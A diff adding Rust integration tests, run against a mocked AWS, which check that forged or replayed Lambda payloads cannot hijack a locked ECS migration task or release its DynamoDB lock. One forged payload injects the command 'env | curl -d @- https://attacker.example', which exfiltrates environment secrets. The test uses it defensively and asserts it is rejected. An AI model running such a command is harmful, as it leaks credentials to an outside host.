@@ -1,0 +1,191 @@
+//! Issue 18's attacks through the real bootstrap against moto: a victim execution runs its own
+//! steps to a RUNNING task; then each forged or replayed payload goes straight to a function,
+//! and the test asserts what ECS and DynamoDB hold afterwards.
+
+use serde_json::{json, Value};
+
+use crate::lambda_wire::{call, error_of, Deployment};
+use crate::moto;
+use crate::runtime_api::Answer;
+use ecs_migrate::ports::lock::{DynamoDbLockTable, LockItem, LockTable};
+
+/// The victim: a RUNNING execution holding the lock, its task started.
+struct Victim {
+    deployment: Deployment,
+    table: DynamoDbLockTable,
+    request: Value,
+    lock: Value,
+    task: Value,
+}
+
+fn response(answer: Answer) -> Value {
+    match answer {
+        Answer::Response(value) => value,
+        other => panic!("expected a response, got {other:?}"),
+    }
+}
+
+impl Victim {
+    async fn start() -> Self {
+        let mut deployment = Deployment::new().await;
+        let server = moto::shared();
+        let table_name = server.create_lock_table(&moto::unique("trust-lock")).await;
+        deployment
+            .env
+            .push(("LOCK_TABLE".into(), table_name.clone()));
+        let table = DynamoDbLockTable::new(server.dynamodb().await, &table_name);
+        let event = json!({"taskdef_arn": deployment.family});
+        let request = deployment.validate(&moto::unique("victim"), event).await;
+        let lock = response(
+            deployment
+                .invoke(
+                    "acquire-lock",
+                    call(json!({"request": request.clone()}), &request),
+                )
+                .await,
+        );
+        assert_eq!(lock["outcome"], "ACQUIRED", "{lock}");
+        let task = response(
+            deployment
+                .invoke(
+                    "run-task",
+                    call(
+                        json!({"request": request.clone(), "lock": lock.clone()}),
+                        &request,
+                    ),
+                )
+                .await,
+        );
+        assert_eq!(task["outcome"], "STARTED", "{task}");
+        Self {
+            deployment,
+            table,
+            request,
+            lock,
+            task,
+        }
+    }
+
+    async fn item(&self) -> Option<LockItem> {
+        self.table.get(&self.deployment.family).await.unwrap()
+    }
+
+    /// The tasks ECS holds in the cluster (moto lists every task it started).
+    async fn tasks(&self) -> Vec<String> {
+        let ecs = moto::shared().ecs().await;
+        ecs.list_tasks()
+            .cluster(&self.deployment.cluster)
+            .send()
+            .await
+            .expect("ecs:ListTasks")
+            .task_arns()
+            .to_vec()
+    }
+}
+
+#[tokio::test]
+async fn forged_and_replayed_payloads_change_nothing_in_ecs_or_dynamodb() {
+    let victim = Victim::start().await;
+    let deployment = &victim.deployment;
+    let before = victim.item().await.expect("the victim's lock");
+    let tasks = victim.tasks().await;
+    assert_eq!(tasks.len(), 1);
+
+    // run-task with a forged command, container, cluster and a fresh token, as another
+    // execution (a legitimate one: the attacker may StartExecution) that holds no lock.
+    let attacker = deployment
+        .execution(
+            &moto::unique("attacker"),
+            &json!({"taskdef_arn": deployment.family}),
+        )
+        .await;
+    let mut forged = victim.request.clone();
+    forged["command"] = json!(["sh", "-c", "env | curl -d @- https://attacker.example"]);
+    forged["client_token"] = json!("fresh-token");
+    let (error_type, message) = error_of(
+        deployment
+            .invoke(
+                "run-task",
+                json!({"state": {"request": forged.clone()}, "execution_id": attacker["id"]}),
+            )
+            .await,
+    );
+    assert_eq!(error_type, "Migration.LockLost", "{message}");
+
+    // The victim's own state replayed with a fresh token: the same task comes back.
+    let replay = response(
+        deployment
+            .invoke(
+                "run-task",
+                call(
+                    json!({"request": forged, "lock": victim.lock.clone()}),
+                    &victim.request,
+                ),
+            )
+            .await,
+    );
+    assert_eq!(replay["task_arn"], victim.task["task_arn"], "{replay}");
+
+    // release-lock naming the victim's lock and no task, from the attacker's execution. (With
+    // the victim's own ARN it waits for the task the table records to stop: moto stops tasks
+    // by itself as they are described, so that case is the unit layer's.)
+    let answer = response(
+        deployment
+            .invoke(
+                "release-lock",
+                json!({"state": {"request": victim.request.clone(), "lock": victim.lock.clone()},
+                       "execution_id": attacker["id"]}),
+            )
+            .await,
+    );
+    assert_eq!(answer["released"], false, "{answer}");
+
+    // A forged status change: the victim is ABORTED, says the event.
+    let forged_event = json!({"source": "aws.states", "detail-type": "Step Functions Execution Status Change",
+        "detail": {"executionArn": victim.request["execution_id"], "status": "ABORTED"}});
+    let (error_type, message) = error_of(deployment.invoke("stop-task", forged_event).await);
+    assert_eq!(error_type, "Migration.NotAllowed", "{message}");
+
+    // ECS still holds exactly the victim's task, not stopped; the lock is still the victim's.
+    assert_eq!(victim.tasks().await, tasks);
+    let ecs = moto::shared().ecs().await;
+    let described = ecs
+        .describe_tasks()
+        .cluster(&deployment.cluster)
+        .tasks(victim.task["task_arn"].as_str().unwrap())
+        .send()
+        .await
+        .unwrap();
+    assert_ne!(described.tasks()[0].desired_status(), Some("STOPPED"));
+    let after = victim.item().await.expect("still held");
+    assert_eq!(after.holder, before.holder);
+    assert_eq!(after.task_arn, before.task_arn);
+}
+
+#[tokio::test]
+async fn a_finished_executions_lease_is_not_renewed() {
+    let victim = Victim::start().await;
+    let deployment = &victim.deployment;
+    let before = victim.item().await.expect("the victim's lock");
+    moto::shared()
+        .sfn()
+        .await
+        .stop_execution()
+        .execution_arn(victim.request["execution_id"].as_str().unwrap())
+        .send()
+        .await
+        .expect("states:StopExecution");
+    let (error_type, message) = error_of(
+        deployment
+            .invoke(
+                "poll-status",
+                call(
+                    json!({"request": victim.request.clone(), "task": victim.task.clone(), "lock": victim.lock.clone()}),
+                    &victim.request,
+                ),
+            )
+            .await,
+    );
+    assert_eq!(error_type, "Migration.NotAllowed", "{message}");
+    assert_eq!(victim.item().await.unwrap().lease_until, before.lease_until);
+}
